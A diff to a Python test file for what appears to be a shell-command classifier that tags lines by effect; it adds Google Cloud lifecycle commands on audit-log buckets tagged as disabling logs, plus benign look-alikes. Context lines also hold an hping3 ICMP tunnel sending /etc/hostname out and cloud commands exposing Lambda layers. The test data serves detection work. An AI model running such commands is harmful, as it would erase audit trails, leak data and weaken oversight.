@@ -57,6 +57,8 @@ def _kinds(line: str) -> list[str]:
         ("sudo hping3 --icmp -d 120 -E /etc/hostname 203.0.113.9", "tunnel"),
         # cloud control planes outside the common verbs
         ("aws s3api put-bucket-lifecycle-configuration --bucket org-audit-trail --lifecycle-configuration file://expire.json", "log-off"),
+        ("gsutil lifecycle set ttl.json gs://acme-audit-logs", "log-off"),
+        ("gcloud storage buckets update gs://sec-trail-archive --lifecycle-file=purge.json", "log-off"),
         ("aws lambda create-function --function-name f --runtime python3.12 --handler h --role r --zip-file fileb://f.zip --layers arn:aws:lambda:eu-west-1:999988887777:layer:x:2", "remote-exec"),
         ("aws lambda add-layer-version-permission --layer-name shared --version-number 3 --statement-id pub --action lambda:GetLayerVersion --principal '*'", "cloud-exposure"),
         ("aws rolesanywhere create-profile --name p --role-arns arn:aws:iam::1:role/r", "cloud-identity"),
@@ -95,6 +97,8 @@ def test_probe4_classes_are_read_as_effects(line: str, kind: str) -> None:
         "codesign --remove-signature build/Release/MyTool",
         "aws s3api put-bucket-lifecycle-configuration --bucket app-uploads-tmp --lifecycle-configuration file://tmp.json",
         "aws lambda update-function-configuration --function-name f --timeout 30",
+        "gsutil lifecycle set ttl.json gs://build-cache-tmp",
+        "gsutil lifecycle get gs://acme-audit-logs",
         "kubectl get --raw /readyz",
         "kubectl create job smoke --image=ghcr.io/acme/smoke:1.4 -- ./run-smoke.sh",
         "aws s3 sync ./dist s3://www-acme/ --delete",
